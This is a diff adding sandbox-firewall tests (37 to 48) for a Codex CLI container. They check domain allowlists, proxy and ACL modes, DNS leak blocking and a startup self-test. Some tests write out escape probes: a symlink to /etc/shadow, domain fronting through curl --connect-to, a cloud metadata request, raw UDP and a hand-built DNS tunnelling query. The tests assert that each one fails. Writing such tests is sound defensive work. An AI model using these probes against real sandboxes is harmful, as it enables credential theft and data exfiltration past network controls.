+  for (const name of ['api.openai.com', 'chat.openai.com', 'chatgpt.com', 'auth0.openai.com', 'platform.openai.com', 'openai.com', 'registry.example.org']) {
+    assert.match(r.stdout, new RegExp(`^${name}$`, 'm'));
+  }
+  assert.match(r.stdout, /https chatgpt\.com/);
+  assert.match(r.stdout, /https openai\.com/);
+});
+test('37 the lists are merged in order, none twice, and their sources are told', async () => {
+  const dir = bed.project({ '.codex/.environment/allowed_domains.txt': '# mine\n\nregistry.example.org  b.example.org\nopenai.com\n' });
+  const r = await bed.probe('grep -n . /etc/codex/allowed_domains.txt | tail -3 | tr "\\n" " " | sed s/^/list=/; echo', { cwd: dir, env: { OPENAI_ALLOWED_DOMAINS: 'b.example.org c.example.org' } });
+  assert.equal(says(r, 'list').trim(), '7:registry.example.org 8:b.example.org 9:c.example.org');
+  assert.match(r.stderr, /^\[sandbox\] Allowed domains from: defaults, allowed_domains\.txt, OPENAI_ALLOWED_DOMAINS$/m);
+  rmSync(join(dir, '.codex/.environment/allowed_domains.txt'));
+  symlinkSync('/etc/shadow', join(dir, '.codex/.environment/allowed_domains.txt'));
+  const link = await bed.run(['--', '--version'], { cwd: dir });
+  assert.match(link.stderr, /^Error: Unable to read allowed_domains\.txt/m);
+});
+test('38 what is no domain is refused; the effective list is readable inside', async () => {
+  for (const bad of ['-a.example', 'a_b.example', 'example', '1.2.3.4', 'a.example/x', '*.example.org']) {
+    await refused([], `Invalid domain format: ${bad}`, { env: { OPENAI_ALLOWED_DOMAINS: bad } });
+  }
+  const r = await bed.probe('stat -c mode=%A /etc/codex/allowed_domains.txt; echo x >> /etc/codex/allowed_domains.txt || echo ro=yes');
+  assert.equal(says(r, 'ro'), 'yes');
+});
+test('39 proxy mode: an outer proxy is the only way, and tools are told of it', async () => {
+  const env = { PROXY_IP_V4: OUTSIDE, COVE_BOX_TEST_REACHED: 'https://api.openai.com' };
+  const r = await bed.probe('echo vars=$HTTP_PROXY,$HTTPS_PROXY,$NO_PROXY; cat /codex_home/.npmrc; ' + web('https://api.openai.com/by-proxy') + web(`http://${OUTSIDE}/direct`) + web('--noproxy "*" https://api.openai.com/around'), { env });
+  assert.equal(says(r, 'vars'), `http://${OUTSIDE}:3128,http://${OUTSIDE}:3128,localhost,127.0.0.1,::1,models.cove`);
+  assert.match(r.stdout, new RegExp(`^proxy=http://${OUTSIDE}:3128$`, 'm'));
+  assert.match(r.stdout, /https api\.openai\.com/);
+  assert.ok(bed.outside().some((e) => e.connect === 'api.openai.com:443'));
+  assert.ok(!bed.outside().some((e) => e.path === '/around'));
+  await refused([], 'PROXY_PORT must be numeric: x', { env: { PROXY_PORT: 'x' } });
+  await refused([], 'PROXY_IP_V4 is no address: nowhere', { env: { PROXY_IP_V4: 'nowhere' } });
+});
+test('40 without one: 443 and 80 by allowed names only, never by number, never to private places', async () => {
+  const r = await bed.probe(['https://registry.example.org/ok', 'http://registry.example.org/ok', 'https://registry.example.org:8443/port', 'https://other.example.org/denied', `https://${OUTSIDE}/number`, 'http://10.99.0.2/private', 'http://private.example.org/private',
+    '--resolve registry.example.org:443:10.0.0.9 https://registry.example.org/named', `--connect-to other.example.org:443:registry.example.org:443 https://other.example.org/fronted`].map(web).join(''),
+  { env: { OPENAI_ALLOWED_DOMAINS: 'registry.example.org private.example.org' } });
+  assert.match(r.stdout, /^https registry\.example\.org$/m);
+  assert.match(r.stdout, /^http registry\.example\.org$/m);
+  for (const path of ['/port', '/denied', '/number', '/private', '/fronted']) assert.ok(!bed.outside().some((e) => e.path === path), path);
+});
+test('41 acl mode: names, not addresses; private answers are dropped, ALLOW_PRIVATE_DNS keeps them', async () => {
+  const dir = bed.project();
+  const ask = (env) => bed.probe(web('http://private.example.org/acl') + web('https://registry.example.org/acl'), { cwd: dir, args: ['--firewall', 'acl'], env: { OPENAI_ALLOWED_DOMAINS: 'private.example.org registry.example.org', PROXY_IP_V4: '192.0.2.1', ...env } });
+  const r = await ask({});
+  assert.match(r.stdout, /^https registry\.example\.org$/m);
+  const audits = readdirSync(join(bed.base, 'audit')).sort();
+  const log = readdirSync(join(bed.base, 'audit', audits.at(-1))).map((f) => readFileSync(join(bed.base, 'audit', audits.at(-1), f), 'utf8')).join('');
+  assert.match(log, /private\.example\.org/, 'what was refused is on record');
+  const kept = await ask({ ALLOW_PRIVATE_DNS: '1' });
+  assert.doesNotMatch(kept.stdout, /not permitted|denied/i);
+});
+test('42 fail closed and at once: TCP is reset, UDP and ICMP go nowhere, IPv6 too', async () => {
+  const r = await bed.probe('s=$(date +%s%N); ' + web(`https://${OUTSIDE}/`) + web('https://[2001:4860:4860::8888]/') + 'echo took=$(( ($(date +%s%N) - s) / 1000000 )); ' +
+    'timeout 3 bash -c "echo x > /dev/udp/9.9.9.10/9999; echo y > /dev/udp/9.9.9.10/53"; ip -o link 2>/dev/null | grep -vc " lo:" | sed s/^/cards=/; ping -c1 -W1 9.9.9.10 >/dev/null 2>&1 || echo ping=no');
+  assert.ok(Number(says(r, 'took')) < 4000, r.stdout);
+  assert.equal(says(r, 'ping'), 'no');
+  assert.ok(!bed.outside().some((e) => e.kind === 'dns' && e.name === ''), 'no datagram came out');
+});
+test('43 DNS: no query leaves for a name that is not allowed', async () => {
+  const canary = `leak-${process.pid}.tunnel.example`;
+  await bed.probe(`getent hosts ${canary}; getent hosts data.${canary}; timeout 2 bash -c 'exec 3<>/dev/udp/${OUTSIDE}/53; printf "\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x06secret\\x07example\\x00\\x00\\x01\\x00\\x01" >&3; timeout 1 cat <&3 | wc -c'; true`);
+  assert.deepEqual(bed.outside().filter((e) => e.kind === 'dns' && /leak-|secret/.test(e.name)), []);
+});
+test('44 loopback is free; the local network and the gateway are not there', async () => {
+  const r = await bed.probe('node -e "const s=require(\'http\').createServer((q,r)=>r.end(\'own\')).listen(8123,()=>fetch(\'http://127.0.0.1:8123\').then(x=>x.text()).then(t=>{console.log(\'loop=\'+t);s.close()}))"; ' + web('http://10.99.0.1/') + web('http://10.99.0.2/local') + web('http://169.254.169.254/meta'));
+  assert.equal(says(r, 'loop'), 'own');
+  assert.ok(!bed.outside().some((e) => e.path === '/local'));
+});
+test('45 no firewall of the host is touched; a wrong mode and a missing tool are errors', async () => {
+  await refused([], "INIT_FIREWALL_MODE must be proxy or acl, not 'open'.", { env: { INIT_FIREWALL_MODE: 'open' } });
+  assert.equal((await bed.run(['--', '--version'], { cwd: bed.project(), env: { INIT_FIREWALL_MODE: 'acl' } })).status, 0);
+  const rules = spawnSync('nsenter', [`--net=/run/netns/${bed.inner}`, 'nft', 'list', 'ruleset'], { encoding: 'utf8' });
+  assert.equal(rules.stdout, '');
+});
+test('46 the self-test: what must not be reached is not, what must be is, or codex does not start', async () => {
+  const dir = bed.project();
+  const open = await bed.run(['--', '--version'], { cwd: dir, env: { COVE_BOX_TEST_DENIED: 'https://api.openai.com' } });
+  assert.equal(open.status, 1);
+  assert.match(open.stderr, /^Error: Firewall verification failed: https:\/\/api\.openai\.com was reached\.$/m);
+  assert.equal(open.stdout, '');
+  const from = Date.now();
+  const shut = await bed.run(['--', '--version'], { cwd: dir, env: { COVE_BOX_TEST_REACHED: 'https://other.example.org' } });
+  assert.equal(shut.status, 1);
+  assert.match(shut.stderr, /^Error: Firewall verification failed: https:\/\/other\.example\.org could not be reached/m);
+  assert.ok(Date.now() - from >= 4000, 'three attempts, two seconds apart');
+  // A name of the test that its owner has allowed is no test.
+  assert.equal((await bed.run(['--', '--version'], { cwd: dir, env: { OPENAI_ALLOWED_DOMAINS: 'example.com' } })).status, 0);
+});
+test('47 the places of lists and tests can be named', async () => {
+  const file = bed.put(join(bed.dir, 'domains47.txt'), 'named.example.org\n');
+  const r = await bed.probe('tail -1 /etc/codex/allowed_domains.txt', { env: { ALLOWED_DOMAINS_FILE: file } });
+  assert.match(r.stdout, /^named\.example\.org$/m);
+  const none = await bed.run([], { cwd: bed.project(), env: { ALLOWED_DOMAINS_FILE: '/none.txt' } });
+  assert.match(none.stderr, /^Error: Unable to read \/none\.txt/m);
+});
+test('48 a second terminal can look inside, and every decision is on record', async () => {
+  const dir = bed.project();
+  const box = bed.start(['exec', '--skip-git-repo-check', 'stay a while'], { cwd: dir });
+  await until('it works', () => existsSync(join(dir, 'here.txt')), 20000);
+  const run = join(bed.base, 'run', bed.runs()[0]);
+  const look = spawnSync('nsenter', [`--net=/run/netns/${bed.inner}`, 'sh', '-c', `. ${run}/env && ${bin} exec $COVE_BOX -- cat /etc/codex/allowed_domains.txt`], { encoding: 'utf8' });
+  assert.match(look.stdout, /^api\.openai\.com$/m, look.stderr);
+  assert.match(readFileSync(join(run, 'server.log'), 'utf8'), /box\.started/);
+  box.child.kill('SIGINT');
+  await box.done;
+  const audits = readdirSync(join(bed.base, 'audit'));
+  assert.ok(audits.length > 0 && audits.length <= 100);
+  assert.ok(readFileSync(join(root, 'docs/box.md'), 'utf8').includes('| 48 |'));
+});
+
+function netnsCount() {
+  const seen = new Set();
+  for (const p of pids()) { const r = spawnSync('readlink', [`/proc/${p}/ns/net`], { encoding: 'utf8' }).stdout.trim(); if (r) seen.add(r); }
+  return seen.size;
+}
